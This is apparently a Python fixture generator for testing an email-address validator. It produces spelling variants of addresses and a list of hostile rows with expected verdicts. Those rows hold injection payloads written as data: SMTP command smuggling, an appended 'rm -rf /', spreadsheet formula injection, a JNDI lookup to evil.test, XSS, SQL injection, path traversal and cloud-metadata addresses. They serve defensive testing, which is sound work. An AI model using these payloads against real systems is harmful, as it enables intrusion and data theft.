"""How addresses look in lists: the same mailbox in several spellings, and rows meant to hurt."""


def spellings(address, random):
    """One row for most; for some several, which must all get one verdict and one question."""
    if random.random() > 0.08:
        return [address]
    local, domain = address.rsplit("@", 1)
    ways = [f" {address} ", f"<{address}>", f"{local}@{domain.upper()}", f"{local.upper()}@{domain}",
            f"mailto:{address}", f"Someone <{address}>", f"{address}.", address, f"\"{local}\"@{domain}",
            f"\u00a0{address}\t", f"\ufeff{address}", f"{address},", f"\"Who, Else\" <{address}>"]
    if "\"" in local:
        ways = [f" {address} ", address]
    return [address, *random.sample(ways, random.randint(1, 3))]


def hostile():
    """Rows that no server may hear of. They are (text, address, truth)."""
    texts = [
        "not an address", "@", "a@", "@pf10.test", "a@@pf10.test", "a@b@pf10.test", "a b@pf10.test",
        "ada@pf10.test\r\nRCPT TO:<bob@pf10.test>", "ada\r\nDATA\r\n@pf10.test", "ada\x00@pf10.test",
        "ada@pf10.test\x00.evil", "<script>alert(1)</script>@pf10.test", "x" * 70_000 + "@pf10.test",
        "x" * 65 + "@pf10.test", "ada@" + "x" * 64 + ".test", "ada@" + ".".join(["abc"] * 80) + ".test",
        "ada@-bad-.test", "ada@pf10..test", ".ada@pf10.test", "ada.@pf10.test", "a..b@pf10.test",
        "ada@pf1_0.test;rm -rf /", "=cmd|' /C calc'!A0", "ada@\u202etset.01fp", "\u200bada@pf10.test\x7f",
        "ada@[127.0.0.1", "(comment", "\"unclosed@pf10.test", "ada>@pf10.test",
        "ada@pf10.test SIZE=1 NOTIFY=SUCCESS", "ada@pf10.test\rQUIT", "ada@pf10.test\nQUIT", "ada@pf10.test> BODY=8BITMIME",
        "<@pf20.test:ada@pf10.test", "ada%pf20.test@", "\x1b[31mada@pf10.test", "ada@pf10.test\x85DATA",
        "a" * 10_000 + "@pf10.test", "ada@" + "b" * 10_000 + ".test", "=HYPERLINK(\"http://evil.test\",\"x\")",
        "@SUM(1+1)*cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://evil.test/a}",
        "../../etc/passwd", "null", "N/A", "-", "ada@pf10.test@", "\"a\r\nRCPT TO:<bob\"@pf10.test", "\U0001f600",
        "ada@pf10\u3002\u3002test",
    ]
    never = "invalid:bad_syntax"
    repaired = "unknown:not_probed unknown:provider_policy " + never
    rows = [(text, text, never + " valid:* invalid:*" if "\u200b" in text else never) for text in texts]
    rows += [(text, text, "unknown:not_probed") for text in
             ("ada@[127.0.0.1]", "ada@[169.254.169.254]", "ada@[IPv6:::1]", "postmaster@pf10.test",
              "abuse@pf20.test")]
    rows += [("ada@localhost", "ada@localhost", "invalid:*")]
    rows += [("ada@169.254.169.254", "ada@169.254.169.254", repaired + " invalid:*")]
    # A cell with two addresses, or with one in words, may be mended or not; nobody else may be asked for it.
    rows += [(text, text, "invalid:* valid:* unknown:*") for text in
             ("ada@pf10.test; bob@pf10.test", "ada at pf10 dot test", "'ada@pf10.test", "ada@pf10\uff0etest",
              "<a href=\"mailto:ada@pf10.test\">ada</a>", "ada(comment)@pf10.test", "user%pf20.test@pf10.test",
              "pf20.test!ada@pf10.test", "+ada@pf10.test", "-ada@pf10.test", "|cat@pf10.test", "/dev/null@pf10.test",
              "ada@pf10.test?subject=hi", "ada@@pf10.test,", "\uff41\uff44\uff41@pf10.test")]
    return rows
